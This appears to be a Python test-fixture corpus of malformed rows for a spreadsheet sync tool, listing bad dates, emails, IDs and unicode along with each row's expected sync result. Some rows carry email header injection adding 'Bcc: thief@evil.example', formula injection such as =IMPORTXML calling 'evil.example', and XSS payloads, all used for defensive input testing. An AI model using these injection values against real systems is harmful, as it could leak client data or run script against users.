"""The bad-input corpus: odd and wrong rows as staff really type, paste and import them.

Each ``Case`` is one row for one tab, with what the sync must make of it:

- ``ok``: the row syncs (Sync status "OK");
- ``problem:<words>``: the row is flagged (Sync status "Needs attention: ..." containing
  <words>), so a person knows what to fix;
- ``any``: either, but never a crash and never garbage (see ``test_bad_input``).

``backends`` limits a case to the backends that can store it at all (an .xlsx cannot hold
control characters; a Google cell holds at most 50,000 characters).

The register around them is ordinary: a few good partners (one with an accented name, two
whose names differ only by case), default treatments, no date order set, and a handful of
good control rows in every tab that must sync whatever their neighbours hold.
"""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass
from typing import Any

from builders import TODAY

D = TODAY - dt.timedelta(days=2)  # a recent, valid date
LONG = "x" * 50_000  # Google's cell limit
LONGISH = "Ann " + "a" * 5_000


@dataclass(frozen=True)
class Case:
    tab: str  # "Partners", "Referrals" or "Check-ins"
    name: str
    cells: dict[str, Any]
    expect: str = "any"
    backends: tuple[str, ...] = ("memory", "local", "google")


def _columns(cells: dict[str, Any]) -> dict[str, Any]:
    """Keyword names to column names: Client_email -> "Client email", Check_in_by ->
    "Check-in by"."""
    return {k.replace("_", " ").replace("Check in", "Check-in"): v for k, v in cells.items()}


def _c(name: str, expect: str = "any", backends: tuple[str, ...] | None = None,
       **cells: Any) -> Case:
    row = {"Client": "Amira Khan", "Client email": "amira@mail.example",
           "Treatment": "Chemical peel", "Treatment date": D, "First visit": "No",
           "Check-in by": "Call"}
    row.update(_columns(cells))
    return Case("Check-ins", name, row, expect, backends or ("memory", "local", "google"))


def _r(name: str, expect: str = "any", backends: tuple[str, ...] | None = None,
       **cells: Any) -> Case:
    row = {"Date": D, "Direction": "Received", "Partner": "Dr Carol Webster",
           "Client": "Jane Doe", "Reason": "acne", "Consent to share": "No",
           "Status": "New"}
    row.update(_columns(cells))
    return Case("Referrals", name, row, expect, backends or ("memory", "local", "google"))


def _p(name: str, expect: str = "any", backends: tuple[str, ...] | None = None,
       **cells: Any) -> Case:
    row = {"Name": "Dr Pat Quinn", "Email": "pat@quinn.example", "Stage": "Active",
           "Last contact": TODAY - dt.timedelta(days=100)}
    row.update(_columns(cells))
    return Case("Partners", name, row, expect, backends or ("memory", "local", "google"))


NO_XLSX = ("memory", "google")  # control characters: an .xlsx cannot store them
MEMORY = ("memory",)  # over Google's 50,000-character cell limit

# Good partners every referral below can name.
PARTNERS = [
    {"Name": "Dr Carol Webster", "Email": "carol@webster-derm.example", "Stage": "Active",
     "Last contact": TODAY - dt.timedelta(days=10)},
    {"Name": "Dr Zoë Ågren", "Email": "zoe@agren.example", "Stage": "Active",
     "Last contact": TODAY - dt.timedelta(days=10)},
    {"Name": "Dr Lee Park", "Email": "lee@park.example", "Stage": "Active",
     "Last contact": TODAY - dt.timedelta(days=10)},
    {"Name": "DR LEE PARK", "Email": "lee2@park.example", "Stage": "Active",
     "Last contact": TODAY - dt.timedelta(days=10)},
]

CONTROLS = [
    _c("control check-in", "ok", Client="Control One"),
    _c("control check-in without email", "ok", Client="Control Two", Client_email=""),
    _r("control referral", "ok", Client="Control Three"),
    _r("control referral with consent", "ok", Client="Control Four", Consent_to_share="Yes"),
    _p("control partner", "ok", Name="Dr Control Five"),
]

CASES: list[Case] = [
    # --- dates typed as text, both orders, ambiguous, impossible -------------------
    _c("ISO date", "ok", Treatment_date="2026-11-20"),
    _c("date with month name", "ok", Treatment_date="20 Nov 2026"),
    _c("month name first", "any", Treatment_date="Nov 20, 2026"),
    _c("day-first, unambiguous", "any", Treatment_date="20/11/2026"),
    _c("month-first, unambiguous", "any", Treatment_date="11/20/2026"),
    _c("ambiguous day/month", "problem:ambiguous", Treatment_date="03/04/2026"),
    _c("ambiguous with dots", "problem:", Treatment_date="3.4.2026"),
    _c("ambiguous with dashes", "problem:", Treatment_date="03-04-2026"),
    _c("two-digit year", "any", Treatment_date="20/11/26"),
    _c("slashes year first", "any", Treatment_date="2026/11/20"),
    _c("month 13", "problem:", Treatment_date="2026-13-01"),
    _c("31 February", "problem:not a real date", Treatment_date="31/02/2026"),
    _c("29 February non-leap", "problem:not a real date", Treatment_date="2026-02-29"),
    _c("a word", "problem:", Treatment_date="yesterday"),
    _c("TBD", "problem:", Treatment_date="TBD"),
    _c("N/A", "problem:", Treatment_date="N/A"),
    _c("date and time text", "any", Treatment_date="2026-11-20 14:30"),
    _c("ISO with T", "any", Treatment_date="2026-11-20T14:30:00"),
    _c("padded date", "ok", Treatment_date="  2026-11-20  "),
    _c("date with line break", "any", Treatment_date="2026-11-20\n"),
    _c("unknown month name", "problem:", Treatment_date="20 Brumaire 2026"),
    _c("date 50,000 characters long", "problem:is not a date", Treatment_date=LONG),
    # --- serial numbers -----------------------------------------------------------------
    _c("serial number (int)", "any", Treatment_date=46346),
    _c("serial number (float)", "any", Treatment_date=46346.5),
    _c("serial number as text", "any", Treatment_date="46346"),
    _c("serial zero", "problem:", Treatment_date=0),
    _c("negative serial", "problem:", Treatment_date=-5),
    _c("huge serial", "problem:", Treatment_date=10**9),
    _c("tiny float", "problem:", Treatment_date=1e-300),
    # --- before 1900, far future ----------------------------------------------------------
    _c("before 1900 as text", "problem:", Treatment_date="1899-12-31"),
    _c("medieval", "problem:", Treatment_date="1066-10-14"),
    _c("year 2100 as text", "any", Treatment_date="2100-01-01"),
    _c("year 9999", "any", Treatment_date="9999-12-31"),
    _c("real date 2100", "any", Treatment_date=dt.date(2100, 1, 1)),
    _c("real datetime", "any", Treatment_date=dt.datetime(2026, 11, 20, 15, 45)),
    _c("boolean in a date", "problem:", Treatment_date=True),
    # --- empty required cells -------------------------------------------------------
    _c("no client", "problem:Client is empty", Client=""),
    _c("client only spaces", "problem:Client is empty", Client="   "),
    _c("no treatment", "problem:Treatment is empty", Treatment=None),
    _c("no treatment date", "problem:Treatment date is empty", Treatment_date=None),
    _c("nothing but a name", "problem:", Client="Only Name", Client_email=None,
       Treatment=None, Treatment_date=None, First_visit=None, Check_in_by=None),
    _r("referral without date", "problem:Date is empty", Date=None),
    _r("referral without direction", "problem:Direction is empty", Direction=None),
    _r("referral without partner", "problem:Partner is empty", Partner=""),
    _r("referral without client", "problem:Client is empty", Client=None),
    _p("partner without name", "problem:Name is empty", Name=""),
    # --- emails -------------------------------------------------------------------------
    _c("email with a space", "problem:not a valid address", Client_email="amira khan@mail.example"),
    _c("email with two @", "problem:not a valid address", Client_email="amira@@mail.example"),
    _c("email with two @ apart", "problem:not a valid address", Client_email="a@b@mail.example"),
    _c("email padded", "ok", Client_email="  amira@mail.example  "),
    _c("mailto: email", "ok", Client_email="mailto:amira@mail.example"),
    _c("email with header injection", "problem:not a valid address",
       Client_email="amira@mail.example\r\nBcc: thief@evil.example"),
    _c("two emails", "problem:not a valid address", Client_email="a@mail.example; b@mail.example"),
    _c("email without domain dot", "problem:not a valid address", Client_email="amira@localhost"),
    _c("uppercase email", "ok", Client_email="AMIRA@MAIL.EXAMPLE"),
    _c("accented email", "any", Client_email="amíra@mail.example"),
    _c("email as formula", "problem:not a valid address", Client_email="=HYPERLINK(\"mailto:a@b.c\")"),
    _c("email in angle brackets", "any", Client_email="Amira <amira@mail.example>"),
    _p("partner email with space", "problem:not a valid address", Email="pat @quinn.example"),
    _r("referral client email two @", "problem:not a valid address", Client_email="j@@x.example"),
    # --- partner names differing by case or accents, unknown partners -------------------
    _r("partner by lower case", "ok", Partner="dr carol webster"),
    _r("partner with extra spaces", "ok", Partner="  Dr  Carol   Webster "),
    _r("partner without accents", "any", Partner="Dr Zoe Agren"),
    _r("partner with accents as written", "ok", Partner="Dr Zoë Ågren"),
    _r("partner name on two rows by case", "any", Partner="Dr Lee Park"),
    _r("partner name on two rows, other case", "any", Partner="dr lee park"),
    _r("partner by ID", "ok", Partner="P-0001"),
    _r("unknown partner", "problem:", Partner="Dr Smyth"),
    _r("partner as formula", "problem:", Partner="=VLOOKUP(A1,B:C,2)"),
    _p("partner named like another, accents only", "any", Name="Dr Zoe Agren",
       Email="zoe2@agren.example"),
    # --- duplicate and stale IDs --------------------------------------------------------
    _c("duplicate ID (first)", "problem:a copied row", Check_in_ID="C-0500", Client="Dup A"),
    _c("duplicate ID (copy)", "problem:a copied row", Check_in_ID="C-0500", Client="Dup B"),
    _c("duplicate ID with a trailing space", "problem:a copied row", Check_in_ID="C-0500 ",
       Client="Dup C"),
    _c("pasted row with an ID never handed out", "any", Check_in_ID="C-9000",
       Client="Pasted"),
    _c("ID edited by hand", "problem:changed by hand", Check_in_ID="C-0600/x"),
    _c("ID with a line break", "problem:", Check_in_ID="C-0601\nC-0602"),
    _r("referral pasted with a partner's ID in its ID cell", "problem:not an ID sheetsync gave out",
       Referral_ID="P-0001"),
    _r("referral ID looks like a formula", "problem:not an ID sheetsync gave out",
       Referral_ID="=1+1"),
    # --- formulas and text that spreadsheets read as formulas --------------------------
    _c("client is a HYPERLINK formula", "any",
       Client="=HYPERLINK(\"http://evil.example\",\"click me\")"),
    _c("client is =1+1", "any", Client="=1+1"),
    _c("client starts with +", "any", Client="+Amira"),
    _c("client starts with -", "any", Client="-Amira"),
    _c("client starts with @", "any", Client="@Amira"),
    _c("phone starts with +", "ok", Client_phone="+44 20 7946 0000"),
    _c("phone starts with -", "any", Client_phone="-7946"),
    _c("phone is a formula", "any", Client_phone="=2+2"),
    _r("reason is a formula", "any", Reason="=IMPORTXML(\"http://evil.example\",\"//a\")",
       Consent_to_share="Yes"),
    _p("partner name is a formula", "any", Name="=1+1"),
    _p("partner practice starts with @", "any", Practice="@home"),
    # --- line breaks in names, subjects, reasons ------------------------------------
    _c("client with LF", "any", Client="Amira\nKhan"),
    _c("client with CRLF", "any", Client="Amira\r\nKhan"),
    _c("client with CR", "any", Client="Amira\rKhan"),
    _c("client with header injection", "any",
       Client="Amira\r\nBcc: thief@evil.example\r\nSubject: hacked"),
    _r("referral client with header injection, consent", "any",
       Client="Jane\r\nBcc: thief@evil.example", Consent_to_share="Yes"),
    _r("reason with CRLF and consent", "any", Reason="acne\r\n\r\nrosacea",
       Consent_to_share="Yes"),
    _p("partner name with CRLF (goes into To:)", "any",
       Name="Dr Pat\r\nBcc: thief@evil.example"),
    _p("partner with unicode line separator", "any", Name="Dr Pat\u2028Quinn"),
    _c("client with tab", "any", Client="Amira\tKhan"),
    _c("client with NUL", "any", NO_XLSX, Client="Amira\x00Khan"),
    _c("client with escape sequence", "any", NO_XLSX, Client="Amira\x1b[31mKhan"),
    # --- HTML and script in cells --------------------------------------------------
    _r("reason with script tag, consent", "any",
       Reason="<script>alert('x')</script><b>bold</b>", Consent_to_share="Yes"),
    _c("client with HTML", "any", Client="<img src=x onerror=alert(1)>"),
    _p("partner name with HTML", "any", Name="<b>Dr Bold</b>"),
    # --- very long cells -------------------------------------------------------------
    _c("client 50,000 characters", "problem:too long", Client=LONG),
    _c("client 5,000 characters", "problem:too long", Client=LONGISH),
    _c("notes 50,000 characters", "any", Notes=LONG),
    _r("reason 50,000 characters", "problem:too long", Reason=LONG),
    _p("partner notes 50,000 characters", "any", Notes=LONG),
    _c("email 50,000 characters", "problem:not a valid address", Client_email=LONG),
    _c("treatment 50,000 characters", "problem:", Treatment=LONG),
    _c("client 60,000 characters", "problem:too long", MEMORY, Client="y" * 60_000),
    # --- emoji, right-to-left, odd unicode --------------------------------------------
    _c("client with emoji", "ok", Client="Amira 💆‍♀️ Khan"),
    _c("client only emoji", "ok", Client="🌸"),
    _c("client right-to-left", "ok", Client="أميرة خان"),
    _c("client Hebrew", "ok", Client="עמירה כהן"),
    _c("client with RTL override", "any", Client="Amira\u202eevil.exe"),
    _c("client with zero-width space", "any", Client="Ami\u200bra"),
    _c("combining accents", "ok", Client="Ame\u0301lie"),
    _r("reason in Arabic with consent", "ok", Reason="حب الشباب", Consent_to_share="Yes"),
    _p("partner name with emoji", "any", Name="Dr Sunny ☀️"),
    _p("partner name right-to-left", "any", Name="د. سارة"),
    # --- other choices and numbers -------------------------------------------------------
    _c("treatment in lower case", "ok", Treatment="chemical peel"),
    _c("unknown treatment", "problem:", Treatment="Unicorn facial"),
    _c("treatment with line break", "any", Treatment="Chemical\npeel"),
    _c("first visit maybe", "problem:Yes or No", First_visit="maybe"),
    _c("first visit TRUE", "ok", First_visit=True),
    _c("first visit 1", "any", First_visit=1),
    _c("check-in by pigeon", "problem:", Check_in_by="Carrier pigeon"),
    _c("check-in by lower case", "ok", Check_in_by="email"),
    _r("direction lower case", "ok", Direction="received"),
    _r("direction unknown", "problem:", Direction="Sideways"),
    _r("status unknown", "problem:", Status="Done-ish"),
    _r("consent maybe", "problem:Yes or No", Consent_to_share="maybe"),
    _r("first visit before referral", "any", First_visit=D - dt.timedelta(days=30)),
    _r("date in 2100", "any", Date="2100-01-01"),
    _r("date ambiguous", "problem:ambiguous", Date="03/04/2026"),
    _r("seen without first visit", "any", Status="Seen", Consent_to_share="Yes"),
    _p("stage lower case", "ok", Stage="active"),
    _p("stage unknown", "problem:", Stage="Dormant"),
    _p("check-in every -5 days", "problem:", **{"Check-in every (days)": -5}),
    _p("check-in every 0 days", "any", **{"Check-in every (days)": 0}),
    _p("check-in every ninety days", "problem:", **{"Check-in every (days)": "ninety"}),
    _p("check-in every 1e9 days", "any", **{"Check-in every (days)": 1e9}),
    _p("check-in every 90.5 days", "any", **{"Check-in every (days)": 90.5}),
    _p("last contact in 2100", "any", Last_contact="2100-01-01"),
    _p("last contact as text serial", "any", Last_contact="46000"),
    _p("introduced by nobody known", "any", Stage="Prospect", Introduced_by="Dr Nobody"),
    _p("introduced by itself", "any", Name="Dr Self", Stage="Prospect",
       Introduced_by="Dr Self"),
    _p("nurturing without last contact", "any", Stage="Nurturing", Last_contact=None),
]
